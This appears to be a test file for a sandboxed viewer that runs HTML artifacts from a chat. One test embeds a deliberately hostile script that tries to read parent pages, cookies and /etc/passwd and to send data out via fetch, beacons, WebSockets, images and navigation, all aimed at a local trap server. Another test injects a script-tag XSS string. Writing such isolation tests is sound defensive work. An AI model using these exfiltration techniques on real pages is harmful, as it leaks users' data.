// SPDX-License-Identifier: Apache-2.0
// viewer.test.mjs - the file that the terminal's chat writes: artifacts run in it, and stay in it.
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import { openBrowser, shownFrame, sleep, until } from "./browser.mjs";

const VIEWER = fileURLToPath(new URL("../../web/dist/viewer.html", import.meta.url));

// As cli_artifact.c does it.
function fill(messages) {
  const json = JSON.stringify({ messages }).replaceAll("<", "\\u003c");
  return readFileSync(VIEWER, "utf8").replace("<!--talk-->", () => json);
}

// A page on a file with this conversation; `use` also gets what left for the network.
async function withViewer(messages, use, options = {}) {
  const folder = mkdtempSync(join(tmpdir(), "enxame-viewer-"));
  const path = join(folder, "chat.html");
  const caught = [];
  const trap = createServer((socket) => {
    socket.on("data", (data) => caught.push(String(data).slice(0, 60)));
    socket.on("error", () => {});
  });
  await new Promise((resolve) => trap.listen(0, "127.0.0.1", resolve));
  const context = await (await openBrowser()).newContext(options);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (error) => errors.push(error.message));
  try {
    writeFileSync(path, fill(messages(trap.address().port)));
    await page.goto(pathToFileURL(path).href);
    await use(page, caught, errors);
  } finally {
    await context.close();
    trap.close();
    rmSync(folder, { recursive: true });
  }
}

const says = (...answers) =>
  answers.flatMap((content) => [
    { role: "user", content: "make it" },
    { role: "assistant", content },
  ]);
const fenced = (body) => `Here:\n\n\`\`\`html\n${body}\n\`\`\`\n`;

test("a page of the talk runs, its versions can be chosen, its console is shown", () =>
  withViewer(
    () =>
      says(
        fenced("<h1>first</h1>"),
        fenced("<h1 id=x></h1><script>x.textContent = 6 * 7; console.log('ran');</script>"),
      ),
    async (page, caught, errors) => {
      await until(async () => (await shownFrame(page).locator("h1").innerText()) === "42", "42");
      await until(async () => /ran/.test(await page.locator(".console-lines").innerText()), "ran");
      await page.getByLabel("Version").selectOption("1");
      await until(
        async () => (await shownFrame(page).locator("h1").innerText()) === "first",
        "the first version",
      );
      assert.deepEqual(errors, []);
      assert.deepEqual(caught, []);
    },
  ));

test("code and tables are shown, and a talk without artifacts says so", async () => {
  await withViewer(
    () => says("```csv\na,b\n1,2\n```\n"),
    async (page) => {
      await until(async () => (await page.locator("table td").count()) === 2, "cells");
    },
  );
  await withViewer(
    () => says("Just words, and </script><script>alert(1)</script>."),
    async (page, caught, errors) => {
      await page.getByText("made no artifact").waitFor();
      assert.deepEqual(errors, []);
    },
  );
});

test("a hostile artifact reaches neither the file, nor other files, nor the network", () =>
  withViewer(
    (port) =>
      says(
        fenced(`<script>
const out = "http://127.0.0.1:${port}/";
for (const [name, steal] of Object.entries({
  parent: () => parent.document.title, top: () => top.document.body.innerHTML,
  cookie: () => document.cookie, file: () => frameElement.id,
})) {
  try { console.log(name + " gave " + steal()); } catch (e) { console.log(name + " refused"); }
}
fetch(out + "fetch").catch(() => console.log("fetch refused"));
fetch("file:///etc/passwd").catch(() => console.log("file refused"));
try { navigator.sendBeacon(out + "beacon", "x"); } catch (e) {}
try { new WebSocket(out.replace("http", "ws")); } catch (e) {}
new Image().src = out + "image";
const link = document.createElement("link");
link.rel = "stylesheet"; link.href = out + "style"; document.head.append(link);
try { top.location = out + "top"; } catch (e) { console.log("top refused"); }
try { window.open(out + "open"); } catch (e) {}
console.log("origin " + origin);
setTimeout(() => { location.href = out + "self?secret"; }, 300);
</script>`),
      ),
    async (page, caught) => {
      const lines = page.locator(".console-lines");
      await until(async () => /origin null/.test(await lines.innerText()), "an opaque origin");
      await until(async () => /fetch refused/.test(await lines.innerText()), "no fetch");
      await until(async () => /file refused/.test(await lines.innerText()), "no file");
      await sleep(800);
      const text = await lines.innerText();
      assert.doesNotMatch(text, /gave/);
      assert.match(page.url(), /^file:/);
      assert.deepEqual(caught, []);
    },
  ));
